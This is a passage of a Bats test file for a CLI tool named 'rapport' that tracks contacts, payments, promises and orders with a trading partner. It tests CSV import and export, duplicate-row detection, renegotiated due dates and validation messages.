	[ "$output" = "(stdin): 1 row of contacts would be imported (1 event); --dry-run: nothing was written" ]
}

@test "a file imported again is refused row by row as recorded already; --skip-recorded imports only the new rows" {
	init_db
	printf 'by,kind,note,at\nbuyer,call,Lab dips,2026-11-02T09:00Z\npartner,email,"Trims, buttons",2026-11-03T10:00Z\n' >c1.csv
	printf 'side,name,role,lang,at\npartner,王伟,qc,zh,2026-11-02\npartner,王伟,qc,zh,2026-11-02\n' >p1.csv
	printf 'amount,currency,due,label,at,paid\n500.00,USD,2026-12-01,sample run,2026-11-02,\n' >pay1.csv
	printf 'side,what,due,at,outcome,closed\nbuyer,Approve the lab dips,2026-11-20,2026-11-02,kept,2026-11-19\n' >k1.csv
	printf 'po,style,qty,price,currency,ex_factory,at\nA,S,10,1,USD,2027-06-01,2026-11-02\n' >o1.csv
	# two people of the same name in one file are two people
	for f in c1:contacts p1:people pay1:payments k1:commitments o1:orders; do
		rapport import --kind "${f#*:}" --partner 1 "${f%%:*}.csv" >/dev/null 2>&1
	done
	rapport people --partner 1 --json | json_is 'len([p for p in v if p["name"] == "王伟"])' 2
	# each again: every row recorded before, named, and nothing written
	cid=$(db_query "SELECT min(event_id) FROM contacts")
	refuses 2 "c1.csv:2: recorded already: contact #$cid has the same values and time (was this file imported before?)" \
		import --kind contacts --partner 1 c1.csv
	refuses 2 "rapport: c1.csv: 2 bad rows (each recorded already: was this file imported before? --skip-recorded imports only the new rows); nothing was imported" \
		import --kind contacts --partner 1 c1.csv
	refuses 2 'p1.csv:3: recorded already: person #' import --kind people --partner 1 p1.csv
	refuses 2 'pay1.csv:2: recorded already: payment #' import --kind payments --partner 1 pay1.csv
	# as a spreadsheet saves them again: 500.00 as 500, 1 as 1.00 (an amount
	# is compared as an amount)
	printf 'amount,currency,due,label,at,paid\n500,USD,2026-12-01,sample run,2026-11-02,\n' >pay1b.csv
	refuses 2 'pay1b.csv:2: recorded already: payment #' import --kind payments --partner 1 pay1b.csv
	printf 'po,style,qty,price,currency,ex_factory,at\nA,S,10,1.00,USD,2027-06-01,2026-11-02\n' >o1b.csv
	run --separate-stderr rapport import --kind orders --partner 1 --skip-recorded o1b.csv
	[ "$output" = "o1b.csv: imported 0 rows of orders (0 events); 1 row recorded before was left out" ]
	printf 'amount,currency,due,label,at,paid\n500.01,USD,2026-12-01,sample run,2026-11-02,\n' >pay1c.csv
	run --separate-stderr rapport import --kind payments --partner 1 --dry-run pay1c.csv
	[ "$output" = "pay1c.csv: 1 row of payments would be imported (1 event); --dry-run: nothing was written" ]
	refuses 2 'k1.csv:2: recorded already: commitment #' import --kind commitments --partner 1 k1.csv
	refuses 2 "rapport: o1.csv: 1 bad row (an order already recorded: was this file imported before? --skip-recorded imports only the new rows); nothing was imported" \
		import --kind orders --partner 1 o1.csv
	# the same values at another time, or another value at the same time: new
	printf 'by,kind,note,at\nbuyer,call,Lab dips,2026-11-02T09:01Z\nbuyer,call,Lab dips!,2026-11-02T09:00Z\n' >c2.csv
	run --separate-stderr rapport import --kind contacts --partner 1 c2.csv
	[ "$status" -eq 0 ]
	[ "$output" = "c2.csv: imported 2 rows of contacts (2 events)" ]
	# --skip-recorded: the new rows land, the others are counted
	printf 'by,kind,note,at\nbuyer,call,Lab dips,2026-11-02T09:00Z\nbuyer,video,Bulk fabric,2026-11-04T08:00Z\n' >c3.csv
	run --separate-stderr rapport import --kind contacts --partner 1 --skip-recorded c3.csv --dry-run
	[ "$output" = "c3.csv: 1 row of contacts would be imported (1 event); 1 row recorded before would be left out; --dry-run: nothing was written" ]
	run --separate-stderr rapport import --kind contacts --partner 1 --skip-recorded c3.csv
	[ "$status" -eq 0 ]
	[ "$output" = "c3.csv: imported 1 row of contacts (1 event); 1 row recorded before was left out" ]
	[ "$stderr" = "" ]
	# (the 09:00 call once, the 09:01 one of c2.csv, the new video call)
	rapport contacts --partner 1 --json | json_is '[[c["note"] for c in v].count(n) for n in ("Lab dips", "Bulk fabric")]' '[2, 1]'
	# an order: left out when every column is the same; another quantity is still refused
	run --separate-stderr rapport import --kind orders --partner 1 --skip-recorded o1.csv
	[ "$output" = "o1.csv: imported 0 rows of orders (0 events); 1 row recorded before was left out" ]
	[ "$stderr" = "" ]
	printf 'po,style,qty,price,currency,ex_factory,at\nA,S,11,1,USD,2027-06-01,2026-11-02\n' >o2.csv
	refuses 2 'o2.csv:2: column "po": order A already exists' import --kind orders --partner 1 --skip-recorded o2.csv
	# ... and the summary does not offer --skip-recorded, which cannot help
	refuses 2 'rapport: o2.csv: 1 bad row (an order already recorded: was this file imported before?); nothing was imported' \
		import --kind orders --partner 1 o2.csv
	# rows that give no time are made now: another file of them in the same
	# second is new rows, not the first file again
	printf 'by,kind\nbuyer,call\n' >now1.csv
	printf 'by,kind\nbuyer,call\nbuyer,email\n' >now2.csv
	rapport import --kind contacts --partner 1 now1.csv >/dev/null
	run --separate-stderr rapport import --kind contacts --partner 1 now2.csv
	[ "$status" -eq 0 ]
	[ "$output" = "now2.csv: imported 2 rows of contacts (2 events)" ]
	# a promise renegotiated since: its file is still the same file
	printf 'side,what,due,at\npartner,Ship the lab dips,2026-12-10,2026-11-02\n' >k2.csv
	rapport import --kind commitments --partner 1 k2.csv >/dev/null 2>&1
	kid=$(db_query "SELECT id FROM commitments WHERE what = 'Ship the lab dips'")
	rapport commitment renegotiate "$kid" --due 2026-12-20 --at 2026-11-10 >/dev/null 2>&1
	[ "$(db_query "SELECT due FROM commitments WHERE id = $kid")" = 2026-12-20 ]
	refuses 2 "k2.csv:2: recorded already: commitment #$kid" import --kind commitments --partner 1 k2.csv
	run rapport import --kind people --partner 1 --skip-recorded --json p1.csv
	echo "$output" | json_is '[v["rows"], v["skipped"]]' '[0, 2]'
}

@test "a payments file sent again once a payment was made records it paid on the payment made before" {
	init_db
	# the ERP's payments file: two owed
	printf 'amount,currency,due,label,at,paid,paid_amount\n' >week1.csv
	printf '500.00,USD,2026-12-01,sample run,2026-11-02,,\n1200.00,USD,2026-11-10,tooling,2026-10-05,,\n' >>week1.csv
	rapport import --kind payments --partner 1 week1.csv >/dev/null 2>&1
	local sample tooling
	sample=$(db_query "SELECT id FROM payments WHERE label = 'sample run'")
	tooling=$(db_query "SELECT id FROM payments WHERE label = 'tooling'")
	# a week later: the sample run paid, the tooling still owed, one new
	printf 'amount,currency,due,label,at,paid,paid_amount\n' >week2.csv
	printf '500.00,USD,2026-12-01,sample run,2026-11-02,2026-11-20,\n1200.00,USD,2026-11-10,tooling,2026-10-05,,\n' >>week2.csv
	printf '80.00,USD,2026-12-15,courier,2026-11-21,,\n' >>week2.csv
	# the owed one is the file imported again; the paid one is not
	refuses 2 "week2.csv:3: recorded already: payment #$tooling has the same values and time" \
		import --kind payments --partner 1 week2.csv
	refuses 2 "rapport: week2.csv: 1 bad row (recorded already: --skip-recorded imports only the new rows); nothing was imported" \
		import --kind payments --partner 1 week2.csv
	# without the new row, the file sent again is asked about as before
	head -3 week2.csv >paid-only.csv
	refuses 2 "rapport: paid-only.csv: 1 bad row (recorded already: was this file imported before? --skip-recorded imports only the new rows); nothing was imported" \
		import --kind payments --partner 1 paid-only.csv
	run --separate-stderr rapport import --kind payments --partner 1 --skip-recorded --dry-run week2.csv
	[ "$output" = "week2.csv: 2 rows of payments would be imported (2 events); 1 would be the outcome of a payment recorded before; 1 row recorded before would be left out; --dry-run: nothing was written" ]
	run --separate-stderr rapport import --kind payments --partner 1 --skip-recorded --json week2.csv
	[ "$status" -eq 0 ]
	[ "$stderr" = "" ]
	echo "$output" | json_is '[v["rows"], v["events"], v["closed"], v["skipped"]]' '[2, 2, 1, 1]'
	# paid at midnight in London (GMT in November), on the payment made
	# before, not on a second one
	[ "$(db_query "SELECT count(*) FROM payments WHERE label = 'sample run'")" = 1 ]
	[ "$(db_query "SELECT paid_at FROM payments WHERE id = $sample")" = "$(date -ud 2026-11-20 +%s)" ]
	[ "$(db_query "SELECT count(*) FROM payments WHERE id = $tooling AND paid_at IS NULL")" = 1 ]
	[ "$(db_query "SELECT count(*) FROM payments WHERE label = 'courier'")" = 1 ]
	# the same again: every row as recorded now
	run --separate-stderr rapport import --kind payments --partner 1 --skip-recorded week2.csv
	[ "$output" = "week2.csv: imported 0 rows of payments (0 events); 3 rows recorded before were left out" ]
	# paid at another time or another amount than recorded: refused, with or without leaving out
	printf 'amount,currency,due,label,at,paid,paid_amount\n500.00,USD,2026-12-01,sample run,2026-11-02,2026-11-21,\n' >later.csv
	local flag
	for flag in --skip-recorded --dry-run; do
		refuses 2 "later.csv:2: column \"paid\": payment #$sample is recorded paid already, at 2026-11-20T00:00:00+00:00" \
			import --kind payments --partner 1 $flag later.csv
	done
	printf 'amount,currency,due,label,at,paid,paid_amount\n500.00,USD,2026-12-01,sample run,2026-11-02,2026-11-20,400.00\n' >part.csv
	refuses 2 "part.csv:2: column \"paid_amount\": payment #$sample is recorded paid already, with another amount" \
		import --kind payments --partner 1 --skip-recorded part.csv
}

@test "a promise file sent again once a promise was broken records that on the promise made before, as the command would" {
	init_db
	# one open, broken since; its outcome recorded once
	printf 'side,what,due,at,outcome,closed,reason\npartner,Ship the lab dips,2026-11-20,2026-11-02,,,\n' >k1.csv
	rapport import --kind commitments --partner 1 k1.csv >/dev/null 2>&1
	local kid
	kid=$(db_query "SELECT id FROM commitments WHERE what = 'Ship the lab dips'")
	printf 'side,what,due,at,outcome,closed,reason\npartner,Ship the lab dips,2026-11-20,2026-11-02,broken,2026-11-23,Dye lot failed\n' >k2.csv
	run --separate-stderr rapport import --kind commitments --partner 1 k2.csv
	[ "$status" -eq 0 ]
	[ "$output" = "k2.csv: imported 1 row of commitments (1 event); 1 was the outcome of a commitment recorded before" ]
	[ "$(db_query "SELECT state || ' ' || reason FROM commitments WHERE id = $kid")" = "broken Dye lot failed" ]
	[ "$(db_query "SELECT count(*) FROM commitments WHERE what = 'Ship the lab dips'")" = 1 ]
	# and scored as the command would: one broken promise of the partner's
	fresh_db byhand
	local hid
	hid=$(in_db byhand rapport commitment add --partner 1 --side partner --what "Ship the lab dips" --due 2026-11-20 --at 2026-11-02 2>/dev/null)
	in_db byhand rapport commitment break "$hid" --reason "Dye lot failed" --at 2026-11-23 >/dev/null 2>&1
	[ "$(rapport commitments --json)" = "$(in_db byhand rapport commitments --json)" ]
	[ "$(rapport score --partner 1 --json)" = "$(in_db byhand rapport score --partner 1 --json)" ]
	refuses 2 "k2.csv:2: recorded already: commitment #$kid has the same values and time" \
		import --kind commitments --partner 1 k2.csv
	printf 'side,what,due,at,outcome,closed,reason\npartner,Ship the lab dips,2026-11-20,2026-11-02,kept,2026-11-23,\n' >k3.csv
	refuses 2 "k3.csv:2: column \"outcome\": commitment #$kid is recorded broken already, not kept" \
		import --kind commitments --partner 1 --skip-recorded k3.csv
	printf 'side,what,due,at,outcome,closed,reason\npartner,Ship the lab dips,2026-11-20,2026-11-02,broken,2026-11-23,Late\n' >k4.csv
	refuses 2 "k4.csv:2: column \"reason\": commitment #$kid is recorded broken already, with another reason" \
		import --kind commitments --partner 1 --skip-recorded k4.csv
	# a file without the reason column is still told which value differs
	printf 'side,what,due,at,outcome,closed\npartner,Ship the lab dips,2026-11-20,2026-11-02,broken,2026-11-23\n' >k5.csv
	refuses 2 "k5.csv:2: column \"reason\": commitment #$kid is recorded broken already, with another reason" \
		import --kind commitments --partner 1 --skip-recorded k5.csv
}

@test "a renegotiated promise exports the date it was first due and each new date, and imports renegotiated again" {
	init_db
	local id
	# moved twice (the second agreed in London winter time), then kept
	id=$(rapport commitment add --partner 1 --side partner --what "Send the trims card" --due 2026-11-10 --at 2026-11-01 2>/dev/null)
	rapport commitment renegotiate "$id" --due 2026-11-17 --at 2026-11-05T09:00Z >/dev/null 2>&1
	rapport commitment renegotiate "$id" --due 2026-11-20 --at 2026-11-12 >/dev/null 2>&1
	rapport commitment keep "$id" --at 2026-11-19 >/dev/null
	# moved after its date had passed (renegotiated late), still open
	id=$(rapport commitment add --partner 1 --side buyer --what "Approve the lab dips" --due 2026-11-05 --at 2026-11-02 2>/dev/null)
	rapport commitment renegotiate "$id" --due 2026-12-02 --at 2026-11-08 >/dev/null 2>&1
	rapport commitment add --partner 1 --side buyer --what "Confirm the colourways" --due 2026-12-04 --at 2026-11-20 >/dev/null 2>&1
	# new dates recorded as agreed before the promise was logged and after
	# it was kept: the command takes them, so the import does
	id=$(rapport commitment add --partner 1 --side partner --what "Book the inspection" --due 2026-11-10 --at 2026-11-05 2>/dev/null)
	rapport commitment renegotiate "$id" --due 2026-11-17 --at 2026-11-01 >/dev/null 2>&1
	rapport commitment renegotiate "$id" --due 2026-11-20 --at 2026-11-24 >/dev/null 2>&1
	rapport commitment keep "$id" --at 2026-11-19 >/dev/null
	rapport export --partner 1 --kind commitments --out c.csv
	[ "$(sed -n 2p c.csv)" = "$(printf '1,partner,Send the trims card,2026-11-20,2026-11-01T00:00:00Z,kept,2026-11-19T00:00:00Z,,,,2026-11-10,2026-11-17 on 2026-11-05T09:00:00Z; 2026-11-20 on 2026-11-12T00:00:00Z\r')" ]
	[ "$(sed -n 3p c.csv)" = "$(printf '1,buyer,Approve the lab dips,2026-12-02,2026-11-02T00:00:00Z,,,,,,2026-11-05,2026-12-02 on 2026-11-08T00:00:00Z\r')" ]
	[ "$(sed -n 4p c.csv)" = "$(printf '1,partner,Book the inspection,2026-11-20,2026-11-05T00:00:00Z,kept,2026-11-19T00:00:00Z,,,,2026-11-10,2026-11-17 on 2026-11-01T00:00:00Z; 2026-11-20 on 2026-11-24T00:00:00Z\r')" ]
	[ "$(sed -n 5p c.csv)" = "$(printf '1,buyer,Confirm the colourways,2026-12-04,2026-11-20T00:00:00Z,,,,,,,\r')" ]
	rapport export --partner 1 --kind commitments --format json | json_is '[c["renegotiated"] for c in v]' \
		'["2026-11-17 on 2026-11-05T09:00:00Z; 2026-11-20 on 2026-11-12T00:00:00Z", "2026-12-02 on 2026-11-08T00:00:00Z", "2026-11-17 on 2026-11-01T00:00:00Z; 2026-11-20 on 2026-11-24T00:00:00Z", null]'
	fresh_db copy
	run --separate-stderr in_db copy rapport import --kind commitments c.csv
	[ "$status" -eq 0 ]
	[ "$output" = "c.csv: imported 4 rows of commitments (11 events)" ]
	in_db copy rapport export --partner 1 --kind commitments | cmp - c.csv
	# the same promises, moved the same number of times, the late move
	# counted late, and the same scores
	[ "$(records commitments)" = "$(in_db copy records commitments)" ]
	[ "$(rapport score --partner 1 --json)" = "$(in_db copy rapport score --partner 1 --json)" ]
	in_db copy rapport commitments --json | json_is '[c["renegotiations"] for c in v]' '[2, 2, 1, 0]'
	[ "$(in_db copy db_query "SELECT renegotiated_late FROM commitments ORDER BY id" | tr '\n' ,)" = "0,1,1,0," ]
	in_db copy rapport verify >/dev/null
	# the same file again: recorded already, as before
	run --separate-stderr in_db copy rapport import --kind commitments --skip-recorded c.csv
	[ "$output" = "c.csv: imported 0 rows of commitments (0 events); 4 rows recorded before were left out" ]
}

@test "a promise moved 120 times and a corrected milestone moved since round-trip too" {
	init_db
	# 120 new dates, one a day from 2027-01-02, each agreed at 08:00 UTC on
	# a day of November 2025 or 2026
	python3 -c '
import datetime
d = datetime.date(2027, 1, 1)
t = datetime.datetime(2025, 7, 1, 8)
out = []
for i in range(120):
    d += datetime.timedelta(days=1)
    t += datetime.timedelta(days=3)
    out.append("%s on %sZ" % (d.isoformat(), t.strftime("%Y-%m-%dT%H:%M:%S")))
print("partner,side,what,due,at,first_due,renegotiated")
print("1,partner,Resubmit the fit sample,%s,2025-06-30T00:00:00Z,2027-01-01,%s" % (d.isoformat(), "; ".join(out)))
' >many.csv
	run --separate-stderr rapport import --kind commitments many.csv
	[ "$status" -eq 0 ]
	[ "$output" = "many.csv: imported 1 row of commitments (121 events)" ]
	rapport commitments --json | json_is '[(c["due"], c["renegotiations"]) for c in v]' '[["2027-05-01", 120]]'
	# written back as it was read, every date in order (first_due and
	# renegotiated are the export's last two columns too)
	rapport export --partner 1 --kind commitments | sed -n 2p | tr -d '\r' >back.txt
	[ "$(awk -F, '{ print $(NF - 1) "," $NF }' back.txt)" = "$(sed -n 2p many.csv | awk -F, '{ print $(NF - 1) "," $NF }')" ]
	[ "$(awk -F, '{ print NF }' back.txt)" = 12 ]
	fresh_db copy
	in_db copy rapport import --kind commitments many.csv >/dev/null
	[ "$(rapport commitments --json)" = "$(in_db copy rapport commitments --json)" ]

	# a milestone corrected, then moved: the order made again has its
	# first date, and the new dates are recorded on it
	rapport order add --partner 1 --po LR-9 --style S --qty 100 --price 2.40 --currency USD --ex-factory 2027-03-15 --at 2026-09-01T09:00Z >/dev/null 2>&1
	local sample seq
	sample=$(db_query "SELECT id FROM commitments WHERE milestone = 'sample approval' AND order_id IS NOT NULL")
	seq=$(rapport log --partner 1 --json | python3 -c "import json, sys; print([e['seq'] for e in json.load(sys.stdin) if e['id'] == $sample][0])")
	rapport correct "$seq" --partner 1 --due 2027-01-20 --reason "Sample date agreed on the call" >/dev/null 2>&1
	rapport commitment renegotiate "$sample" --due 2027-01-25 --at 2026-11-10T00:00Z >/dev/null 2>&1
	rapport export --partner 1 --kind orders --out o.csv
	rapport export --partner 1 --kind commitments | grep -e '^partner,' -e ',LR-9,' >c.csv
	grep -q ',LR-9,sample approval,2027-01-20,2027-01-25 on 2026-11-10T00:00:00Z' c.csv
	fresh_db again
	in_db again rapport import --kind orders o.csv >/dev/null 2>&1
	run --separate-stderr in_db again rapport import --kind commitments c.csv
	[ "$status" -eq 0 ]
	[ "$output" = "c.csv: imported 1 row of commitments (1 event); 1 gave a commitment recorded before new due dates; 5 rows recorded before were left out" ]
	in_db again rapport commitments --json | json_is '[(c["due"], c["renegotiations"]) for c in v if c["what"] == "LR-9: sample approval"]' '[["2027-01-25", 1]]'
	# the same file again adds nothing
	run --separate-stderr in_db again rapport import --kind commitments c.csv
	[ "$output" = "c.csv: imported 0 rows of commitments (0 events); 6 rows recorded before were left out" ]
}

@test "a promise file sent again with a new due date renegotiates the promise made before; one that disagrees is refused" {
	init_db
	printf 'side,what,due,at\nbuyer,Approve the lab dips,2026-12-01,2026-11-02\n' >v1.csv
	rapport import --kind commitments --partner 1 v1.csv >/dev/null 2>&1
	local kid
	kid=$(db_query "SELECT id FROM commitments WHERE what = 'Approve the lab dips'")
	# the sheet now says the date moved on 20 November (the buyer's time)
	printf 'side,what,due,at,first_due,renegotiated\nbuyer,Approve the lab dips,2026-12-08,2026-11-02,2026-12-01,2026-12-08 on 2026-11-20T15:00\n' >v2.csv
	run --separate-stderr rapport import --kind commitments --partner 1 v2.csv
	[ "$status" -eq 0 ]
	[ "$output" = "v2.csv: imported 1 row of commitments (1 event); 1 gave a commitment recorded before new due dates" ]
	run --separate-stderr rapport import --kind commitments --partner 1 --json --dry-run v2.csv
	[ "$status" -eq 2 ]
	[ "$(db_query "SELECT due || ' ' || renegotiations FROM commitments")" = "2026-12-08 1" ]
	[ "$(db_query "SELECT at || ' ' || old_due || ' ' || new_due FROM renegotiations WHERE commitment = $kid")" = "$(date -ud 2026-11-20T15:00Z +%s) 2026-12-01 2026-12-08" ]
	# as the command would have recorded it
	fresh_db byhand
	local hid
	hid=$(in_db byhand rapport commitment add --partner 1 --side buyer --what "Approve the lab dips" --due 2026-12-01 --at 2026-11-02 2>/dev/null)
	in_db byhand rapport commitment renegotiate "$hid" --due 2026-12-08 --at 2026-11-20T15:00 >/dev/null 2>&1
	[ "$(rapport commitments --json)" = "$(in_db byhand rapport commitments --json)" ]
	[ "$(rapport score --partner 1 --json)" = "$(in_db byhand rapport score --partner 1 --json)" ]
	# sent once more: nothing new
	refuses 2 "v2.csv:2: recorded already: commitment #$kid has the same values and time" \
		import --kind commitments --partner 1 v2.csv
	# the first sheet, older than the record: recorded already too
	run --separate-stderr rapport import --kind commitments --partner 1 --skip-recorded v1.csv
	[ "$output" = "v1.csv: imported 0 rows of commitments (0 events); 1 row recorded before was left out" ]
	# a sheet that says the date moved otherwise, or from another first date
	printf 'side,what,due,at,first_due,renegotiated\nbuyer,Approve the lab dips,2026-12-09,2026-11-02,2026-12-01,2026-12-09 on 2026-11-20T15:00\n' >v3.csv
	refuses 2 "v3.csv:2: column \"renegotiated\": entry 1: commitment #$kid was renegotiated to 2026-12-08 at 2026-11-20T15:00:00+00:00 in this record" \
		import --kind commitments --partner 1 --skip-recorded v3.csv
	# kept since: a later date for it is refused
	rapport commitment keep "$kid" --at 2026-11-24 >/dev/null
	printf 'side,what,due,at,first_due,renegotiated\nbuyer,Approve the lab dips,2026-12-15,2026-11-02,2026-12-01,2026-12-08 on 2026-11-20T15:00; 2026-12-15 on 2026-11-25T09:00\n' >v4.csv
	refuses 2 "v4.csv:2: column \"renegotiated\": entry 2: commitment #$kid is already kept" \
		import --kind commitments --partner 1 v4.csv
}

@test "first_due and renegotiated are checked: each entry, and the last date against due" {
	init_db
	printf 'side,what,due,at,outcome,closed,first_due,renegotiated\n' >bad.csv
	printf 'buyer,A,2026-12-09,2026-11-02,,,2026-11-30,2026-12-09 at 2026-11-20\n' >>bad.csv
	printf 'buyer,B,2026-12-09,2026-11-02,,,2026-11-30,2026-02-30 on 2026-11-20\n' >>bad.csv
	printf 'buyer,C,2026-12-09,2026-11-02,,,2026-11-30,2026-12-08 on 2026-11-20\n' >>bad.csv
	printf 'buyer,D,2026-12-09,2026-11-02,,,2026-11-30,2026-12-01 on 2026-11-20;; 2026-12-09 on 2026-11-21\n' >>bad.csv
	printf 'buyer,E,2026-12-09,2026-11-02,,,,2026-12-09 on 2026-11-20\n' >>bad.csv
	printf 'buyer,F,2026-12-09,2026-11-02,,,2026-11-30,\n' >>bad.csv
	printf 'buyer,G,2026-12-09,2026-11-02,,,2026-11-30,2026-12-09 on 2026-11-20; 2026-12-09 on 2026-11-21\n' >>bad.csv
	printf 'buyer,H,2026-12-09,2026-11-02,,,2026-11-30,2026-12-09 on 2026-12-20\n' >>bad.csv
	printf 'buyer,I,2026-12-09,2026-11-02,kept,2026-11-10,2026-12-09,2026-12-09 on 2026-11-20\n' >>bad.csv
	printf 'buyer,J,2026-12-09,2026-11-02,,,30/11/2026,2026-12-09 on 2026-11-20\n' >>bad.csv
	printf 'buyer,K,2026-12-09,2026-11-02,,,2026-11-30,2026-12-09 on yesterday\n' >>bad.csv
	refuses 2 'bad.csv:2: column "renegotiated": entry 1: not "DATE on TIME" (the new due date and when it was agreed): "2026-12-09 at 2026-11-20"' \
		import --kind commitments --partner 1 bad.csv
	local want
	want=$(cat <<-'EOF'
	bad.csv:2: column "renegotiated": entry 1: not "DATE on TIME" (the new due date and when it was agreed): "2026-12-09 at 2026-11-20"
	bad.csv:3: column "renegotiated": entry 1: no such date: "2026-02-30"
	bad.csv:4: column "due": 2026-12-09, but the last of the renegotiated dates is 2026-12-08
	bad.csv:5: column "renegotiated": entry 2: not "DATE on TIME" (the new due date and when it was agreed): ""
	bad.csv:6: column "first_due": required with renegotiated (the date it was first due)
	bad.csv:7: column "renegotiated": required when first_due is not due (the new dates agreed, "DATE on TIME; ...")
	bad.csv:8: column "renegotiated": entry 2: 2026-12-09 is not a new date (entry 1 says it already)
	bad.csv:9: column "renegotiated": entry 1: in the future; record events once they have happened
	bad.csv:10: column "renegotiated": entry 1: 2026-12-09 is not a new date (first_due says it already)
	bad.csv:11: column "first_due": not a date: "30/11/2026" (want YYYY-MM-DD)
	bad.csv:12: column "renegotiated": entry 1: not an ISO-8601 time: "yesterday" (want YYYY-MM-DD[THH:MM[:SS]][Z|+HH:MM])
	rapport: bad.csv: 11 bad rows; nothing was imported
	EOF
	)
	[ "$stderr" = "$want" ]
	# a milestone's: the order's first date, and its record's new dates
	rapport order add --partner 1 --po LR-7 --style S --qty 1000 --price 2.40 --currency USD --ex-factory 2026-12-21 --at 2026-09-01T09:00Z >/dev/null 2>&1
	local start
	start=$(db_query "SELECT id FROM commitments WHERE milestone = 'production start'")
	# (its first_due, like its due, is the order's: not compared)
	printf 'po,milestone,first_due,renegotiated\nLR-7,production start,2026-11-20,2026-11-28 on 2026-11-02\n' >m.csv
	run --separate-stderr rapport import --kind commitments --partner 1 m.csv
	[ "$output" = "m.csv: imported 1 row of commitments (1 event); 1 gave a commitment recorded before new due dates" ]
	[ "$(db_query "SELECT due FROM commitments WHERE id = $start")" = 2026-11-28 ]
	printf 'po,milestone,first_due,renegotiated\nLR-7,production start,2026-11-21,2026-11-29 on 2026-11-02\n' >m2.csv
	refuses 2 "m2.csv:2: column \"renegotiated\": entry 1: commitment #$start was renegotiated to 2026-11-28 at 2026-11-02T00:00:00+00:00 in this record" \
		import --kind commitments --partner 1 m2.csv
	# without at, the promise was made by the first new date, as by the
	# time it was closed
	printf 'side,what,due,first_due,renegotiated\nbuyer,Z,2026-12-09,2026-11-30,2026-12-09 on 2026-11-20T08:00Z\n' >noat.csv
	rapport import --kind commitments --partner 1 noat.csv >/dev/null
	[ "$(db_query "SELECT made_at FROM commitments WHERE what = 'Z'")" = "$(date -ud 2026-11-20T08:00Z +%s)" ]
}

@test "an order's payments and milestones export with its PO; imported after the order they record how it went" {
	init_db
	rapport order add --partner 1 --po LR-7 --style "Rib beanie" --qty 1000 --price 2.40 --currency USD \
		--ex-factory 2026-12-21 --at 2026-09-01T09:00Z >/dev/null 2>&1
	local sample fabric deposit
	sample=$(db_query "SELECT id FROM commitments WHERE milestone = 'sample approval'")
	fabric=$(db_query "SELECT id FROM commitments WHERE milestone = 'bulk fabric in'")
	deposit=$(db_query "SELECT id FROM payments WHERE label = 'deposit'")
	rapport commitment keep "$sample" --at 2026-10-20 >/dev/null
	rapport commitment break "$fabric" --reason "Dye lot failed" --at 2026-11-10 >/dev/null
	rapport payment paid "$deposit" --amount 700.00 --at 2026-09-10 >/dev/null
	# production start (2026-11-21) moved twice, still open
	local start
	start=$(db_query "SELECT id FROM commitments WHERE milestone = 'production start'")
	rapport commitment renegotiate "$start" --due 2026-11-28 --at 2026-11-02T10:00Z >/dev/null
	rapport commitment renegotiate "$start" --due 2026-12-01 --at 2026-11-20 >/dev/null
	local k
	for k in orders payments commitments; do rapport export --partner 1 --kind "$k" --out "$k.csv"; done
	[ "$(sed -n 4p commitments.csv)" = "$(printf '1,partner,LR-7: production start,2026-12-01,2026-09-01T09:00:00Z,,,,LR-7,production start,2026-11-21,2026-11-28 on 2026-11-02T10:00:00Z; 2026-12-01 on 2026-11-20T00:00:00Z\r')" ]
	# hand-worked: the deposit is 30% of 1000 x 2.40, due a week after the order
	[ "$(sed -n 2p payments.csv)" = "$(printf '1,720.00,USD,2026-09-08,deposit,2026-09-01T09:00:00Z,2026-09-09T23:00:00Z,700.00,LR-7\r')" ]
	[ "$(sed -n 3p commitments.csv)" = "$(printf '1,partner,LR-7: bulk fabric in,2026-11-06,2026-09-01T09:00:00Z,broken,2026-11-10T00:00:00Z,Dye lot failed,LR-7,bulk fabric in,,\r')" ]
	fresh_db copy
	in_db copy rapport import --kind orders orders.csv >/dev/null 2>&1
	run --separate-stderr in_db copy rapport import --kind payments payments.csv
	[ "$output" = "payments.csv: imported 1 row of payments (1 event); 1 was the outcome of a payment recorded before; 1 row recorded before was left out" ]
	run --separate-stderr in_db copy rapport import --kind commitments commitments.csv
	[ "$output" = "commitments.csv: imported 3 rows of commitments (4 events); 2 were the outcomes of commitments recorded before; 1 gave a commitment recorded before new due dates; 3 rows recorded before were left out" ]
	for k in orders payments commitments; do
		in_db copy rapport export --partner 1 --kind "$k" | cmp - "$k.csv"
	done
	[ "$(rapport score --partner 1 --json)" = "$(in_db copy rapport score --partner 1 --json)" ]
	# once more: nothing new
	run --separate-stderr in_db copy rapport import --kind commitments commitments.csv
	[ "$output" = "commitments.csv: imported 0 rows of commitments (0 events); 6 rows recorded before were left out" ]
	# payments given the order later, a second "deposit" among them, are not
	# the order's own: no row could name them, so export leaves them out
	local order
	order=$(db_query "SELECT id FROM orders WHERE po = 'LR-7'")
	rapport payment due --partner 1 --amount 500 --currency USD --due 2026-12-10 --order "$order" --label tooling --at 2026-09-02 >/dev/null
	local second
	second=$(rapport payment due --partner 1 --amount 30 --currency USD --due 2026-12-12 --order "$order" --label deposit --at 2026-09-02)
	rapport export --partner 1 --kind payments | cmp - payments.csv
	run --separate-stderr rapport import --kind payments --partner 1 payments.csv
	[ "$output" = "payments.csv: imported 0 rows of payments (0 events); 2 rows recorded before were left out" ]
	# and a row naming the deposit names the order's own, not the second
	rapport payment paid "$second" --at 2026-11-20 >/dev/null
	printf 'po,label,paid,paid_amount\nLR-7,deposit,2026-09-10,700\n' >dep.csv
	run --separate-stderr rapport import --kind payments --partner 1 dep.csv
	[ "$output" = "dep.csv: imported 0 rows of payments (0 events); 1 row recorded before was left out" ]
	[ "$(db_query "SELECT paid_at FROM payments WHERE id = $deposit")" = "$(date -ud 2026-09-09T23:00Z +%s)" ]
}

@test "records agreed before an order export in the order they were agreed, so the copy exports the same bytes" {
	init_db
	rapport commitment add --partner 1 --side buyer --what "Approve the lab dips" --due 2026-11-20 --at 2026-11-01 >/dev/null 2>&1
	rapport payment due --partner 1 --amount 80.00 --currency USD --due 2026-11-30 --label courier --at 2026-11-03 >/dev/null 2>&1
	rapport order add --partner 1 --po LR-3 --style S --qty 100 --price 2.40 --currency USD --ex-factory 2027-03-01 --at 2026-11-04 >/dev/null 2>&1
	rapport commitment add --partner 1 --side partner --what "Send the trims card" --due 2026-12-01 --at 2026-11-06 >/dev/null 2>&1
	local k
	for k in orders payments commitments; do rapport export --partner 1 --kind "$k" --out "$k.csv"; done
	# the promise of 1 November first, the order's milestones of the 4th, the one of the 6th
	[ "$(cut -d, -f3 commitments.csv | sed -n '2p;3p;9p' | tr '\n' '|')" = "Approve the lab dips|LR-3: sample approval|Send the trims card|" ]
